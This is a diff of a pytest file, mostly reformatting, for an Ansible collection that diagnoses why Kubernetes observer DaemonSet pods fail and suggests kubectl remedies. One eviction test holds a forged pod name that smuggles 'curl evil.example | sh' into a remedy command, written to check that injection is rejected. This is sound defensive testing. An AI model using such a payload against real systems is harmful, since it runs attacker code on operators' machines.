@@ -11,7 +11,13 @@ import typing
 import pytest
 import yaml
 
-from ansible_collections.linerate.rdma.plugins.module_utils._check.controllers.observers import GRACE, Patience, judge, line, selected
+from ansible_collections.linerate.rdma.plugins.module_utils._check.controllers.observers import (
+    GRACE,
+    Patience,
+    judge,
+    line,
+    selected,
+)
 from ansible_collections.linerate.rdma.plugins.module_utils._model.observers import Observer, ObserversSeen, Wanted
 from ansible_collections.linerate.rdma.plugins.module_utils._observe.kubernetes import Resource
 from ansible_collections.linerate.rdma.plugins.module_utils._parse.kubernetes import core
@@ -63,7 +69,9 @@ def of_daemon(message: str, reason: str = "FailedCreate", **rest: str) -> Resour
 
 def test_a_ready_pod_is_an_observer() -> None:
     found = one(seen(pods={"a": play.running()}))
-    assert found == Observer("a", "ready", pod="linerate-observer-a", uid="uid-of-a", container="observer", image_id=play.IMAGE)
+    assert found == Observer(
+        "a", "ready", pod="linerate-observer-a", uid="uid-of-a", container="observer", image_id=play.IMAGE
+    )
     assert line(found) == ""
 
 
@@ -71,7 +79,11 @@ def test_a_ready_pod_is_an_observer() -> None:
     ("message", "reason", "command"),
     [
         (play.SCC, "scc", "oc adm policy add-scc-to-user privileged -z linerate-observer -n linerate-observers"),
-        (play.POD_SECURITY, "pod_security", "kubectl label namespace linerate-observers pod-security.kubernetes.io/enforce=privileged"),
+        (
+            play.POD_SECURITY,
+            "pod_security",
+            "kubectl label namespace linerate-observers pod-security.kubernetes.io/enforce=privileged",
+        ),
         (play.QUOTA, "quota", "kubectl describe resourcequota -n linerate-observers"),
         (play.SCOPES, "quota", "kubectl describe resourcequota -n linerate-observers"),
         (play.PRIORITY, "priority_class", "kubectl get priorityclass"),
@@ -86,16 +98,24 @@ def test_what_the_api_server_refuses(message: str, reason: str, command: str) ->
     assert reason in GRACE
 
 
-CAPTURED = yaml.safe_load((pathlib.Path(__file__).parents[1] / "fixtures/kubernetes/events-of-a-daemonset.yaml").read_text(encoding="utf-8"))["items"]
+CAPTURED = yaml.safe_load(
+    (pathlib.Path(__file__).parents[1] / "fixtures/kubernetes/events-of-a-daemonset.yaml").read_text(encoding="utf-8")
+)["items"]
 
 
-@pytest.mark.parametrize(("number", "reason"), [(0, "pod_security"), (1, "pod_security"), (2, "quota"), (3, "priority_class")])
+@pytest.mark.parametrize(
+    ("number", "reason"), [(0, "pod_security"), (1, "pod_security"), (2, "quota"), (3, "priority_class")]
+)
 def test_events_of_a_real_controller(number: int, reason: str) -> None:
     daemon = {**DAEMON, "metadata": {**DAEMON["metadata"], "uid": CAPTURED[number]["involvedObject"]["uid"]}}
     found = one(seen(events=[CAPTURED[number]], daemon=daemon))
     assert (found.reason, found.detail.startswith('Error creating: pods "linerate-observer-')) == (reason, True)
     # of the older ones only the last counts
-    parsed = [parse.event(item) for item in CAPTURED if item["involvedObject"]["uid"] == CAPTURED[number]["involvedObject"]["uid"]]
+    parsed = [
+        parse.event(item)
+        for item in CAPTURED
+        if item["involvedObject"]["uid"] == CAPTURED[number]["involvedObject"]["uid"]
+    ]
     assert all(item.warning and item.reason == "FailedCreate" and item.time.startswith("2026-") for item in parsed)
 
 
@@ -107,7 +127,10 @@ def test_the_last_refusal_counts() -> None:
 def test_an_event_of_the_newer_api_has_its_time_in_its_series() -> None:
     item = {**of_daemon(play.SCC), "lastTimestamp": None, "eventTime": "2026-01-02T03:04:05.000000Z"}
     assert parse.event(item).time == "2026-01-02T03:04:05.000000Z"
-    assert parse.event({**item, "series": {"count": 4, "lastObservedTime": "2026-01-02T03:09:05.000000Z"}}).time == "2026-01-02T03:09:05.000000Z"
+    assert (
+        parse.event({**item, "series": {"count": 4, "lastObservedTime": "2026-01-02T03:09:05.000000Z"}}).time
+        == "2026-01-02T03:09:05.000000Z"
+    )
 
 
 IMAGE = play.waiting("ImagePullBackOff", 'Back-off pulling image "registry.example/rdma-tools"')
@@ -122,7 +145,13 @@ FAILED = "Found failed daemon pod linerate-observers/linerate-observer-old on no
         (
             IMAGE,
             [
-                ("Failed", 'Failed to pull image "registry.example/rdma-tools": rpc error: code = Unknown desc = unauthorized: authentication required'),
+                (
+                    "Failed",
+                    (
+                        'Failed to pull image "registry.example/rdma-tools": rpc error: code = Unknown desc ='
+                        " unauthorized: authentication required"
+                    ),
+                ),
                 ("Failed", "Error: ErrImagePull"),
             ],
             "image",
@@ -130,13 +159,23 @@ FAILED = "Found failed daemon pod linerate-observers/linerate-observer-old on no
             "kubectl create secret docker-registry",
         ),
         (
-            play.waiting("ErrImagePull", 'rpc error: code = NotFound desc = failed to pull and unpack image: "registry.example/rdma-tools": not found'),
+            play.waiting(
+                "ErrImagePull",
+                'rpc error: code = NotFound desc = failed to pull and unpack image: "registry.example/rdma-tools": not'
+                " found",
+            ),
             [],
             "image",
             "code = NotFound",
             "kubectl describe pod linerate-observer-a -n linerate-observers",
         ),
-        (play.waiting("ErrImageNeverPull", "Container image is not present with pull policy of Never"), [], "image", "Never", "IfNotPresent"),
+        (
+            play.waiting("ErrImageNeverPull", "Container image is not present with pull policy of Never"),
+            [],
+            "image",
+            "Never",
+            "IfNotPresent",
+        ),
         (
             play.waiting("CreateContainerError", 'exec: "/bin/sh": stat /bin/sh: no such file or directory'),
             [],
@@ -144,18 +183,45 @@ FAILED = "Found failed daemon pod linerate-observers/linerate-observer-old on no
             "no such file",
             "kubectl describe pod",
         ),
-        (play.waiting("CrashLoopBackOff", "back-off 5m0s restarting failed container=observer"), [], "container", "back-off", "/bin/sh"),
+        (
+            play.waiting("CrashLoopBackOff", "back-off 5m0s restarting failed container=observer"),
+            [],
+            "container",
+            "back-off",
+            "/bin/sh",
+        ),
         (play.pending(NO_ROOM), [], "unschedulable", "Insufficient cpu", "kubectl describe pod"),
-        (play.ended("Evicted", "The node was low on resource: ephemeral-storage."), [], "ended", "ephemeral-storage", "kubectl describe pod"),
-        (play.ended("OutOfcpu", "Pod was rejected: Node didn't have enough resource: cpu"), [], "ended", "enough resource", "kubectl describe pod"),
-        ({"phase": "Pending"}, [("FailedCreatePodSandBox", SANDBOX)], "sandbox", "failed to setup network", "kubectl describe pod"),
+        (
+            play.ended("Evicted", "The node was low on resource: ephemeral-storage."),
+            [],
+            "ended",
+            "ephemeral-storage",
+            "kubectl describe pod",
+        ),
+        (
+            play.ended("OutOfcpu", "Pod was rejected: Node didn't have enough resource: cpu"),
+            [],
+            "ended",
+            "enough resource",
+            "kubectl describe pod",
+        ),
+        (
+            {"phase": "Pending"},
+            [("FailedCreatePodSandBox", SANDBOX)],
+            "sandbox",
+            "failed to setup network",
+            "kubectl describe pod",
+        ),
         ({"phase": "Pending"}, [], "starting", "the scheduler has not looked at it", "kubectl describe pod"),
     ],
 )
 def test_what_the_scheduler_and_the_kubelet_say(
-    status: Resource, events: typing.Sequence[typing.Tuple[str, str]], reason: str, detail: str, command: str
+    status: Resource, events: typing.Sequence[tuple[str, str]], reason: str, detail: str, command: str
 ) -> None:
-    told = [play.event("Pod", "linerate-observer-a", name, text, f"2026-01-02T03:04:0{number}Z") for number, (name, text) in enumerate(events)]
+    told = [
+        play.event("Pod", "linerate-observer-a", name, text, f"2026-01-02T03:04:0{number}Z")
+        for number, (name, text) in enumerate(events)
+    ]
     found = one(seen(pods={"a": status}, events=told))
     assert (found.phase, found.reason, found.pod) == ("waiting", reason, "linerate-observer-a")
     assert detail in found.detail and command in found.remedy
@@ -168,7 +234,10 @@ def test_an_eviction_is_known_when_its_pod_is_gone() -> None:
     assert (found.reason, "low on resource: memory" in found.detail) == ("ended", True)
     assert "involvedObject.name=linerate-observer-old" in found.remedy
     # another node's is none of this one's
-    assert one(seen([play.node("a"), play.node("b")], events=[evicted, of_daemon(FAILED, "FailedDaemonPod")]), "b").reason == "no_pod"
+    assert (
+        one(seen([play.node("a"), play.node("b")], events=[evicted, of_daemon(FAILED, "FailedDaemonPod")]), "b").reason
+        == "no_pod"
+    )
     # the name of the pod stands in a command, and each kubelet may write events
     forged = FAILED.replace("linerate-observer-old", "x;curl${IFS}evil.example|sh;#")
     assert one(seen(events=[evicted, of_daemon(forged, "FailedDaemonPod")])).reason == "no_pod"
@@ -177,7 +246,11 @@ def test_an_eviction_is_known_when_its_pod_is_gone() -> None:
 def test_a_lost_node() -> None:
     for pods in ({}, {"a": {"phase": "Pending"}}, {"a": play.waiting("ContainerCreating", "")}):
         found = one(seen([play.node("a", ready=False)], pods))
-        assert (found.reason, "Kubelet stopped posting" in found.detail, "kubectl describe node a" in found.remedy) == ("node_not_ready", True, True)
+        assert (found.reason, "Kubelet stopped posting" in found.detail, "kubectl describe node a" in found.remedy) == (
+            "node_not_ready",
+            True,
+            True,
+        )
     # its network alone may be what is missing, and observers are in the host's
     assert one(seen([play.node("a", ready=False)], {"a": play.running()})).phase == "ready"
 
@@ -185,7 +258,11 @@ def test_a_lost_node() -> None:
 def test_who_is_left_out() -> None:
     by_label = made(node_selector={"gpu": "yes"})
     found = one(seen(daemon=by_label, events=[of_daemon(play.SCC)]))
-    assert (found.reason, "gpu=yes" in found.detail, "kubectl label node a gpu=yes" in found.remedy) == ("left_out", True, True)
+    assert (found.reason, "gpu=yes" in found.detail, "kubectl label node a gpu=yes" in found.remedy) == (
+        "left_out",
+        True,
+        True,
+    )
     by_name = made(nodes=("b",))
     assert one(seen(daemon=by_name)).reason == "left_out"
     assert one(seen(), "z").reason == "no_node"
@@ -196,12 +273,19 @@ def test_who_is_left_out() -> None:
 
 def test_who_waits_for_the_controller() -> None:
     unseen = {**DAEMON, "status": {"observedGeneration": 0}}
-    assert [one(world).reason for world in (seen(daemon=unseen), seen(), seen(gone=True))] == ["not_seen", "no_pod", "no_daemon_set"]
+    assert [one(world).reason for world in (seen(daemon=unseen), seen(), seen(gone=True))] == [
+        "not_seen",
+        "no_pod",
+        "no_daemon_set",
+    ]
 
 
 def test_a_pod_of_other_options_is_no_observer() -> None:
     old = made(lifetime=60)
-    assert (one(seen(pods={"a": play.running()}, daemon=old)).phase, one(seen(pods={"a": play.running()}, daemon=old)).reason) == ("waiting", "outdated")
+    assert (
+        one(seen(pods={"a": play.running()}, daemon=old)).phase,
+        one(seen(pods={"a": play.running()}, daemon=old)).reason,
+    ) == ("waiting", "outdated")
     pod = play.pod_of("a", TEMPLATE, play.running())
     pod["metadata"]["deletionTimestamp"] = "2026-01-02T03:04:05Z"
     going = dataclasses.replace(seen(), pods=(parse.observer_pod(pod),))
@@ -217,11 +301,19 @@ def test_a_pod_of_other_options_is_no_observer() -> None:
         [],
         # as a kubelet's mirror pod has it
         [{"apiVersion": "v1", "kind": "Node", "name": "a", "uid": "uid-of-the-node", "controller": True}],
-        [{"apiVersion": "apps/v1", "kind": "DaemonSet", "name": "linerate-observer", "uid": "of-an-older-one", "controller": True}],
+        [
+            {
+                "apiVersion": "apps/v1",
+                "kind": "DaemonSet",
+                "name": "linerate-observer",
+                "uid": "of-an-older-one",
+                "controller": True,
+            }
+        ],
         [{"apiVersion": "apps/v1", "kind": "DaemonSet", "name": "linerate-observer", "uid": "uid-of-the-set"}],
     ],
 )
-def test_a_pod_of_others_with_the_labels_is_no_observer(owners: typing.List[Resource]) -> None:
+def test_a_pod_of_others_with_the_labels_is_no_observer(owners: list[Resource]) -> None:
     pod = play.pod_of("a", TEMPLATE, play.running())
     theirs = parse.observer_pod({**pod, "metadata": {**pod["metadata"], "ownerReferences": owners, "name": "aaa"}})
     assert one(dataclasses.replace(seen(), pods=(theirs,))).reason == "no_pod"
@@ -239,7 +331,11 @@ def test_what_cannot_be_read_is_unknown() -> None:
     found = one(dataclasses.replace(seen(pods={"a": play.running()}), unread=("pods is forbidden",)))
     assert (found.phase, found.reason) == ("ready", "")
     found = one(dataclasses.replace(seen(), unread=("pods is forbidden",)))
-    assert (found.reason, found.detail, "kubectl apply -f docs/rbac/observers.yml" in found.remedy) == ("unread", "pods is forbidden", True)
+    assert (found.reason, found.detail, "kubectl apply -f docs/rbac/observers.yml" in found.remedy) == (
+        "unread",
+        "pods is forbidden",
+        True,
+    )
 
 
 def test_the_first_words_of_a_long_refusal_stay() -> None:
@@ -264,13 +360,18 @@ def test_patience() -> None:
 def test_the_selector_takes_nodes_of_linux() -> None:
     windows = play.node("w", gpu="yes")
     windows["metadata"]["labels"]["kubernetes.io/os"] = "windows"
-    nodes = [core.node(item) for item in (play.node("b", gpu="yes"), play.node("a", gpu="yes"), play.node("c"), windows)]
+    nodes = [
+        core.node(item) for item in (play.node("b", gpu="yes"), play.node("a", gpu="yes"), play.node("c"), windows)
+    ]
     assert selected(nodes, {"gpu": "yes"}) == ("a", "b")
     assert selected(nodes, {}) == ("a", "b", "c")
 
 
 def test_what_no_time_mends_fails_at_once_without_a_grace_of_one_s_own() -> None:
-    found = Patience().apply([Observer("a", "waiting", "no_node"), Observer("b", "waiting", "left_out"), Observer("c", "waiting", "scc")], 0.0)
+    found = Patience().apply(
+        [Observer("a", "waiting", "no_node"), Observer("b", "waiting", "left_out"), Observer("c", "waiting", "scc")],
+        0.0,
+    )
     assert [item.phase for item in found] == ["failed", "failed", "waiting"]
 
 
